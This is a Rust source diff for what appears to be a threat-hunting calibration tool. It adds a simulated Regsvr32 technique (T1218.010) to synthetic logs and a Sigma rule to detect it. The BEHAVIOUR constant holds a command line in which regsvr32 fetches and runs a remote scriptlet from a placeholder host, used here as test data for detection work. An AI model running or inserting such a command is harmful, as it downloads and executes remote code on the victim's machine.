@@ -3,19 +3,23 @@
 //! Each organisation has machines, hours and three sources of logs, of which much is masked at random: whole sources,
 //! sources of a machine, outages, single hours. Its logs are written as text and hunted in like any others, and the
 //! hunt states for every machine how probable it is that a compromise would have been seen. Then the machine is
-//! compromised many times: dice decide when, which kinds of indicators are used, and whether the log shows them; what
+//! compromised many times: dice decide when, which kinds of indicators and whether a technique are used, and whether the
+//! log shows them and the rule that was asked (not in every organisation is one) knows this way of doing it; what
 //! falls in a masked hour is lost. The records that stay are hunted in, and it is counted how often anything was seen.
 
 use std::fmt::Write as _;
 use std::ops::ControlFlow;
+use std::sync::Arc;
 
 use anyhow::{Context as _, bail};
 use tegakari_hunt::{
-    Asked, Assumptions, Input, InventoryAsset, Outcome, Plan, conclude, hunt_input,
+    Asked, Assumptions, Input, InventoryAsset, Outcome, Plan, Rules, conclude, hunt_input,
 };
 use tegakari_model::{
-    HuntResult, Indicator, Observable, ObservableKind as K, TimeRange, Timestamp,
+    HuntResult, Indicator, Observable, ObservableKind as K, ReportedTechnique, RuleLevel,
+    TechniqueId, Telemetry, TimeRange, Timestamp,
 };
+use tegakari_sigma::{RuleFile, RuleSet};
 
 /// 2025-03-04T00:00:00Z.
 const BEGIN: i64 = 1_741_046_400;
@@ -36,6 +40,11 @@ const WANTED: [(K, &str, usize); 4] = [
         2,
     ),
 ];
+
+/// The technique that the report names, what of it stands in the logs, and a rule that finds that.
+const TECHNIQUE: &str = "T1218.010";
+const BEHAVIOUR: &str = "regsvr32 /i:http://a.example/b.sct scrobj.dll";
+const RULE: &str = "title: A script by regsvr32\nstatus: test\nlevel: high\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    selection:\n        CommandLine|contains|all:\n            - 'regsvr32'\n            - 'scrobj.dll'\n    condition: selection\ntags:\n    - attack.t1218.010\n";
 
 /// Runs the chore: `[--seed N] [--organisations N] [--repeats N]`.
 pub(crate) fn run(arguments: &[String]) -> anyhow::Result<()> {
@@ -120,7 +129,7 @@ fn calibrate(seed: u64, organisations: u64, repeats: u64, truth: Option<f64>) ->
         let result = organisation.conclude(base.clone());
         // Nothing was done yet: a sighting here would be an invention.
         assert!(
-            result.totals().seen == 0,
+            !is_seen(&result),
             "organisation {number}: seen before anything was done"
         );
         let Some(strength) = result.strength else {
@@ -135,7 +144,7 @@ fn calibrate(seed: u64, organisations: u64, repeats: u64, truth: Option<f64>) ->
                 let text = organisation.compromise(machine, truth, &mut dice);
                 let mut outcome = base.clone();
                 outcome.merge(organisation.hunt(&text));
-                let seen = organisation.conclude(outcome).totals().seen > 0;
+                let seen = is_seen(&organisation.conclude(outcome));
                 let decile = ((stated.probability * 10.0) as usize).min(9);
                 if let Some(row) = rows.get_mut(decile) {
                     row.all += 1;
@@ -146,6 +155,12 @@ fn calibrate(seed: u64, organisations: u64, repeats: u64, truth: Option<f64>) ->
         }
     }
     rows
+}
+
+/// Whether anything of the report was seen: an indicator or a behaviour.
+fn is_seen(result: &HuntResult) -> bool {
+    let fired = |of: &tegakari_model::Behaviours| !of.observed.is_empty();
+    result.totals().seen > 0 || result.behaviours.as_deref().is_some_and(fired)
 }
 
 struct Organisation {
@@ -173,6 +188,9 @@ impl Organisation {
             };
             assumed.used.insert(kind, (0.2 + 0.8 * dice.share(), hours));
         }
+        assumed.technique = (0.2 + 0.8 * dice.share(), 1);
+        assumed.rule = 0.2 + 0.8 * dice.share();
+        let asks = dice.share() < 0.7;
         assumed.detection = 0.7 + 0.3 * dice.share();
         assumed.dependence = [0.0, 0.5, 1.0][dice.below(3)];
         if half_dependent {
@@ -213,7 +231,16 @@ impl Organisation {
             from: time(0),
             until: time(HOURS),
         };
-        let plan = Plan::new(indicators, window).0.with_inventory(&inventory);
+        let mut plan = Plan::new(indicators, window).0.with_inventory(&inventory);
+        if asks {
+            let file = RuleFile {
+                name: "rule.yml",
+                text: RULE.as_bytes(),
+            };
+            let set = RuleSet::compile(&[file], &[], &mut Vec::new());
+            let rules = Rules::new(Arc::new(set), RuleLevel::Informational, "calibration");
+            plan = plan.with_rules(Arc::new(rules));
+        }
         Self {
             machines,
             kept,
@@ -243,10 +270,19 @@ impl Organisation {
         let shared = dice.share() < truth.unwrap_or(self.assumed.dependence);
         let network = (dice.share(), dice.share());
         let own = (dice.share(), dice.share());
-        for (kind, value, source) in WANTED {
-            let (uses, shows) = if source == 2 && !shared { own } else { network };
+        let indicators = WANTED.map(|(kind, value, source)| {
             let (used, hours) = self.assumed.used.get(&kind).copied().unwrap_or((0.0, 1));
-            if uses > used || shows > self.assumed.detection {
+            (kind, value, source, used, hours, self.assumed.detection)
+        });
+        // The technique is carried out whether a rule knows this way of doing it or not; what none knows is not seen.
+        let (used, hours) = self.assumed.technique;
+        let found = self.assumed.detection * self.assumed.rule;
+        let technique = (K::CommandLine, BEHAVIOUR, 2, used, hours, found);
+        for (kind, value, source, used, hours, detection) in
+            indicators.into_iter().chain([technique])
+        {
+            let (uses, shows) = if source == 2 && !shared { own } else { network };
+            if uses > used || shows > detection {
                 continue;
             }
             for hour in start..(start + hours as usize).min(HOURS) {
@@ -276,6 +312,15 @@ impl Organisation {
     fn conclude(&self, outcome: Outcome) -> HuntResult {
         let asked = Asked {
             assumptions: self.assumed.clone(),
+            techniques: TechniqueId::parse(TECHNIQUE)
+                .map(|id| ReportedTechnique {
+                    id,
+                    name: "Regsvr32".to_owned(),
+                    probability: 1.0,
+                    telemetry: vec![Telemetry::Process, Telemetry::CommandLine],
+                })
+                .into_iter()
+                .collect(),
             ..Asked::default()
         };
         conclude(outcome, &self.plan, &self.inventory, asked)
